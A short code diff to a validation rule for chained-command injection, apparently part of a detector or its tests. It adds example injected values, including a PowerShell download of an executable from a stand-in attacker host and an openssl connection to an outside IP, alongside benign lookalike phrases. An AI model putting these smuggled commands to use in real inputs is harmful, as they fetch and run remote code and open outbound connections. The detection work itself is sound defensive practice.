@@ -29,6 +29,8 @@ export const chainedCommand: ValueRule = {
     ';dig +short evil.example.com',
     'x|getent hosts evil.example.com',
     '10.0.0.1; . /tmp/setup',
+    'x & powershell iwr http://evil.example.com/a -OutFile a.exe',
+    '; openssl s_client -connect 192.0.2.9:443',
   ],
   lookalikes: [
     'salt & pepper; find more in our shop',
@@ -48,6 +50,8 @@ export const chainedCommand: ValueRule = {
     'dig it; the +short list | getent hosts no party',
     'first; . then second',
     'tsc && npm run bundle',
+    'cmd & powershell tips for beginners',
+    'tls; openssl and friends',
   ],
 };
 
